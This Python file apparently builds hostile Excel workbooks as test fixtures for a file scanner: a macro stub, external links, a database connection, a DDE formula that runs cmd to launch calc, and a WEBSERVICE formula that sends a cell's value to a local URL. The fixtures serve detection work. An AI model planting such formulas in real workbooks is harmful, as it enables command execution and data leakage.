"""Workbooks that reach out, or bring something that could run."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial

from hostile_files.books import (
    RELATIONS,
    ROWS,
    with_parts,
)
from hostile_files.kind import Kind
from unit.workbook.packages import excel_parts, make_zip, sheet_part


def of_outside() -> Iterator[Kind]:
    """Give workbooks that reach out, or bring something that could run."""
    yield Kind("macros", "macros.xlsm", lambda: make_zip(with_macros()), "F012", "macros")
    yield Kind(
        "link to another workbook",
        "link.xlsx",
        lambda: make_zip(linked("externalLink", "externalLinks/externalLink1.xml")),
        "F012",
        "other files",
    )
    yield Kind(
        "connection to a database",
        "connection.xlsx",
        lambda: make_zip(linked("connections", "connections.xml")),
        "F012",
        "connections",
    )
    for name, formula in (
        ("dde", "cmd|'/c calc'!A0"),
        ("service", 'WEBSERVICE("http://127.0.0.1:9/"&amp;B2)'),
    ):
        yield Kind(
            f"formula {formula[:14]}",
            f"{name}.xlsx",
            partial(with_parts, rows=ROWS.replace("<v>32", f"<f>{formula}</f><v>32")),
            "W116",
        )


def with_macros() -> dict[str, str | bytes]:
    """Give the parts of a workbook with macros."""
    parts = excel_parts(sheet_part(ROWS))
    types = parts["[Content_Types].xml"]
    assert isinstance(types, str)
    plain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main"
    macros = "application/vnd.ms-excel.sheet.macroEnabled.main"
    return {
        **parts,
        "[Content_Types].xml": types.replace(plain, macros),
        "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    }


def linked(kind: str, target: str) -> dict[str, str | bytes]:
    """Give the parts of a workbook that names one more part of some kind."""
    parts = excel_parts(sheet_part(ROWS))
    relations = parts[RELATIONS]
    assert isinstance(relations, str)
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    more = f'<Relationship Id="rId7" Type="{office}/{kind}" Target="{target}"/>'
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return {
        **parts,
        RELATIONS: relations.replace("</Relationships>", f"{more}</Relationships>"),
        f"xl/{target}": f'<connections xmlns="{main}"><connection id="1" type="1" name="db">'
        '<dbPr connection="DSN=x" command="select 1"/></connection></connections>',
    }
